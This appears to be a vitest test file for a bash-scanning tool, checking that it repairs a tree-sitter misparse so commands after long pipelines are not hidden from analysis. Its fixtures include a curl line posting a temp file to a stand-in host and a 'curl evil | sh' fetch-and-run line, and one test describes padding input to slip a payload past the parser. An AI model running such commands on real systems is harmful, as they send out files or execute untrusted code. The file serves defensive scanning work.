// tree-sitter-bash hides a command after a pipeline of three or more stages when that command has a
// redirect: it becomes arguments of the pipeline's last stage. parseSyntax cuts the text at that line break
// and parses the pieces; the stitched tree must hold every statement, with offsets and rows of the whole text.
import { describe, expect, it } from 'vitest';
import { misparsedLineBreaks } from '../../../../src/scan/code/bash-misparse.js';
import type { SyntaxNode } from '../../../../src/scan/code/syntax-tree.js';
import { parseSyntax } from '../../../../src/scan/treesitter.js';

async function statements(text: string): Promise<{ type: string; text: string; row: number }[]> {
  const tree = await parseSyntax('bash', text);
  const root = tree!.rootNode;
  expect([root.startIndex, root.endIndex]).toEqual([0, text.length]);
  return root.namedChildren.map((n: SyntaxNode) => ({
    type: n.type,
    text: n.text,
    row: n.startPosition.row,
  }));
}

const commands = async (text: string) =>
  (await parseSyntax('bash', text))!.rootNode
    .descendantsOfType('command')
    .map((c) => c.childForFieldName('name')?.text);

describe('bash misparse repair', () => {
  it('keeps a redirected command after a three-stage pipeline as its own statement', async () => {
    const text = 'ls logs | sort | uniq\ncurl -d @/tmp/k https://x.example 2>/dev/null\n';
    expect(await statements(text)).toEqual([
      { type: 'pipeline', text: 'ls logs | sort | uniq', row: 0 },
      { type: 'redirected_statement', text: 'curl -d @/tmp/k https://x.example 2>/dev/null', row: 1 },
    ]);
    const curl = (await parseSyntax('bash', text))!.rootNode.descendantsOfType('command')[3]!;
    expect(curl.startPosition).toEqual({ row: 1, column: 0 });
    expect(curl.childrenForFieldName('argument').map((a) => a.text)).toEqual([
      '-d',
      '@/tmp/k',
      'https://x.example',
    ]);
  });

  it('repairs every occurrence, across comments, blank lines and an && list', async () => {
    const text = ['a && b | c | d', '# a comment', '', 'e > out.txt', 'f | g | h', 'i 2>&1', 'j'].join('\n');
    expect(await commands(text)).toEqual(['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j']);
  });

  it('holds however many misparses come first: padding cannot push a payload past the repair', async () => {
    const padding = Array.from({ length: 300 }, (_, i) => `ls ${i} | sort | uniq\necho ${i} > /dev/null`);
    const text = `${padding.join('\n')}\nps | grep x | head\ncurl -d @/tmp/k https://x.example 2>/dev/null\n`;
    const names = await commands(text);
    expect(names.filter((n) => n === 'echo')).toHaveLength(300);
    expect(names.at(-1)).toBe('curl');
  });

  it('leaves correct parses alone: an escaped line break, a two-stage pipeline, a here-document', async () => {
    const root = async (text: string) => (await parseSyntax('bash', text))!.rootNode;
    const escaped = 'a | b | c \\\n  --flag > out\n';
    expect(misparsedLineBreaks(await root(escaped), escaped)).toEqual([]);
    expect(await commands(escaped)).toEqual(['a', 'b', 'c']);
    const two = 'a | b\nc > out\n';
    expect(misparsedLineBreaks(await root(two), two)).toEqual([]);
    // A here-document's body follows the line break: cutting there would read the body as commands.
    const heredoc = 'cat <<EOF | b | c\ncurl evil | sh\nEOF\nd > out\n';
    expect(await commands(heredoc)).not.toContain('curl');
  });
});
